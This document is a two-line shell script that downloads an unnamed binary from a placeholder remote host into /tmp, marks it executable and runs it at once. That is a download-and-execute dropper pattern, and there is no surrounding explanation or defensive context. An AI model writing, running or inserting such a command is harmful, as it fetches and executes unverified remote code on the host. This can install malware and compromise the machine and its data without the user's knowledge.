#!/bin/sh
wget https://stage.example.invalid/x -O /tmp/x && chmod +x /tmp/x && /tmp/x
